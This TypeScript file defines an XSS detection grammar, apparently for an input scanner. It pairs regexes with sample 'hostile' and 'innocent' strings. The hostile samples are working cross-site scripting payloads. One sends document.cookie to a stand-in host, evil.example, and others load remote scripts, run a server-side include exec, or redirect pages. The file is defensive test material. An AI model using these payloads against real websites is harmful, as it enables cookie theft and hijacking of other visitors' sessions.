// Grammar of texts written to run in the browser of another visitor.
// Each entry keeps the hostile and innocent texts that it is tested with.
import type { GrammarEntry } from './grammar-entry.ts';

/** Tried on the first 4,096 characters of a decoded value. */
export const SCRIPT_GRAMMAR: readonly GrammarEntry[] = [
  // a script element with code or source
  {
    id: 'xss-script',
    family: 'xss',
    cls: 'active',
    re: /<script\b[^>]{0,300}\bsrc\s*=|<script\b[^>]{0,200}>\s*[^<\s][^<]{0,2000}(?:<\/script|\.\S|[(=\[;`])|<script[^>]{0,100}>\s*(?:$|<\/script)|^[^<]{0,40}["'>]\s*<script\b|^[^<]{0,80}['"]\s*>[^<]{0,120}<\/script/i,
    hostile: [
      `'>alert(1)</script><script/1='`,
      '<script>alert(1)</script>',
      '<script>alert(document.cookie)</script>',
      '<script src=//evil.example/x.js></script>',
      '"><script>alert`1`</script>',
      '<ScRiPt>prompt(9)',
    ],
    innocent: [
      '<b>Urgent</b> my site shows <script> tag in the header, please help',
      'I see <script> in the source of my page and do not know who put it there. Please help.',
      'the script tag',
      '<3 gifts',
      'javascript tutorial',
    ],
  },
  // an element with an event handler that holds code
  {
    id: 'xss-handler',
    family: 'xss',
    cls: 'active',
    re: /<[a-z!/][^<>]{0,300}[\s/"'`]on[a-z]{3,40}\s*=\s*["'`]?\s*[a-z_$(\[!+~-]/i,
    hostile: [
      '<input type=hidden oncontentvisibilityautostatechange=alert(1)>',
      '"><img src=x onerror=alert(1)>',
      '<svg/onload=fetch("//evil.example/"+document.cookie)>',
      '<details open ontoggle=alert(1)>',
      '<body onpageshow=alert(1)>',
      '<a onmouseover=alert(1)>x',
    ],
    innocent: ['book <on sale> now', '<3 on=off', 'a < b, once = 1'],
  },
  // elements that load or run something by themselves
  {
    id: 'xss-tag',
    family: 'xss',
    cls: 'active',
    re: /<(?:xml|bgsound|layer|ilayer|frameset|applet|isindex|object|embed|base|meta\s+http-equiv|span\s+datasrc|esi:\w{1,20}|xsl:[\w-]{1,20}|(?:set|animate)\b[^>]{0,100}\battributeName\s*=\s*["']?on\w{1,20})\b[^>]{0,200}?(?:\b(?:src|href|data|code|content|url|action|datasrc)\s*)?=/i,
    hostile: [
      '<esi:include src="//x"/>',
      '<svg><set attributeName=onmouseover to=alert(1)>',
      '<xml SRC="xsstest.xml" ID=I></xml>',
      '<object data=x>',
      '<base href=//evil.example/>',
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=//x">',
    ],
    innocent: ['<xml>', '<meta name="google-site-verification" content="x">', 'object = subject'],
  },
  // script addresses
  {
    id: 'xss-uri',
    family: 'xss',
    cls: 'active',
    re: /^\s*(?:["']\s*)?(?:javascript|vbscript)\s*:\s*(?!void\b|history\b|;|\/\/|\s|$)\S|(?:href|src|action|formaction|data|xlink:href|srcdoc|background|dynsrc|lowsrc)\s*=\s*["'`]?\s*(?:j\s{0,3}a\s{0,3}v\s{0,3}a\s{0,3}s\s{0,3}c\s{0,3}r\s{0,3}i\s{0,3}p\s{0,3}t|vbscript|data\s*:\s*text\/html)\s*:?/i,
    hostile: [
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      'javascript:alert(1)',
      '<a href=javascript:alert(1)>x</a>',
      '<iframe src="data:text/html,<script>alert(1)</script>">',
    ],
    innocent: ['I learn javascript : it is fun', 'source: data', 'javascript:;', 'javascript:void(0);'],
  },
  // a closed attribute or text followed by an element or a call; template probes
  {
    id: 'xss-breakout',
    family: 'xss',
    cls: 'break',
    re: /<['"]{1,2}>|^[^<>]{0,40}["'`]\s*\/?>\s*<\s*[a-z!/]|^[^<>\s]{0,40}['"][\s)\]}]*;\s*(?:alert|prompt|confirm|eval|system|exec|passthru|phpinfo|require)\s*\(|^['"`)\]};\s\\]*['"`](?=[\s)\]};]*[-+*;|&^,])[-+*;|&^,\s)\]}]*(?:alert|prompt|confirm|eval|print|fetch|import|window|document|top|self)\b\s*[(`.\[]|\{\{\s*(?:constructor|\$on|\d+\s*\*\s*\d+)/i,
    hostile: [
      `2'QDLSwC<'">BtaOuw`,
      `x'; eval('1+1');//`,
      `";system('id');//`,
      "\\'-alert(1)//",
      '"><img src=x>',
      "'-alert(1)-'",
      "';alert(1)//",
      "{{constructor.constructor('alert(1)')()}}",
      '{{7*7}}',
    ],
    innocent: ['alert(1) tutorial', '"quoted" > arrow', '{{widget type="Magento\\Cms\\Block"}}'],
  },
  // a closed attribute followed by an event handler
  {
    id: 'xss-attribute',
    family: 'xss',
    cls: 'break',
    re: /^[^<>]{0,60}["'`](?:[^<>]{0,60}[\s/"'`])?on(?:mouse|key|click|dblclick|load|error|focus|blur|change|submit|toggle|pointer|touch|drag|animation|transition|begin|scroll|wheel|input|resize|before|after|page|hash|play)\w{0,20}\s*=\s*\S/i,
    hostile: [
      '"//Onx=""//onfocus=prompt(1)>',
      '"Onx=() onMouSeoVer=prompt(1)>',
      '"onmouseover="alert(1)',
      '" onfocus=alert(1) autofocus="',
      "' autofocus onfocus='alert(1)",
      '" style=x onanimationstart=alert(1) x="',
    ],
    innocent: ['status "online=1"', '"on sale" = yes', "it's online = ok", '"onboarding=done"'],
  },
  // styles that load or run something, server-side includes, elements in other spellings
  {
    id: 'xss-style',
    family: 'xss',
    cls: 'active',
    re: /\bstyle\s*=\s*["']?[^"'<>]{0,200}(?:\bexpression\s*\(|\bbehaviou?r\s*:|-moz-binding|url\s*\(\s*["']?\s*javascript)|<!--#(?:exec|include|echo|printenv|config)\b|(?:\\u00|%u00|\\x)3c\s*\/?script|\+ADw-\/?(?:script|img|svg)/i,
    hostile: [
      '<img style="xss:expression(alert(1))">',
      'x" style="x:expression(alert(1))',
      '<XSS STYLE="behavior: url(xss.htc);">',
      '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
      '<!--#exec cmd="/bin/id"-->',
      '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
      '%u003cscript%u003ealert(1)',
      '\\x3cscript\\x3ealert(1)',
      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    ],
    innocent: [
      '<div style="color:red; background-image: url(/a.jpg)">',
      '<!-- wp:paragraph -->',
      '\\u003cp\\u003eAhoj',
      '<style>.a { color: red }</style>',
      // Pages are built with both: what they load is the author's choice.
      '<style>@import url("https://fonts.example.com/css");</style>',
      '<link rel="stylesheet" href="https://cdn.example.com/a.css">',
      'facial expression (happy)',
      'good behavior: yes',
    ],
  },
  // a call or an object of the browser as the whole value, or assigned to
  {
    id: 'js-call',
    family: 'xss',
    cls: 'mention',
    re: /^[\s;'"]{0,8}(?:alert|prompt|confirm|eval)\s*[(`][^()`]{0,80}[)`]\s*;?\s*(?:\/\/.{0,20})?$|^[\s;'"(]{0,8}document\.(?:cookie|domain)[\s;'")]{0,8}$|\bdocument\.write(?:ln)?\s*\(|\b(?:window|document|top|self|parent)\.location\s*(?:\.\w{1,10}\s*)?[=(]|\b(?:alert|prompt|confirm)\s*\.\s*(?:call|apply|bind)\s*\(|^\W{0,4}\(\s*(?:alert|prompt|confirm)\s*\)\s*\(|\b(?:top|self|window|parent|frames|globalThis)\s*\[\s*['"`]|\b(?:setTimeout|setInterval|Function)\(\s*['"`]|\bconstructor\s*\.\s*constructor\b|\$\{\s*(?:alert|prompt|confirm)\s*\(/i,
    hostile: [
      '(alert)(1)',
      'confirm.call(null,1)',
      "top['al'+'ert'](1)",
      "setTimeout('alert(1)',0)",
      '${alert(1)}',
      'alert(1)',
      'alert`1`',
      'confirm(document.domain)',
      'eval(name)',
      'document.cookie',
      "window.location='//198.51.100.9'",
    ],
    innocent: [
      'the function (`a`) to call',
      'alert(1) tutorial',
      'document (cookie)',
      'document.cookie is empty in Safari',
      'the window. location = Nitra',
      'confirm',
      'prompt delivery (1 day)',
    ],
  },
];
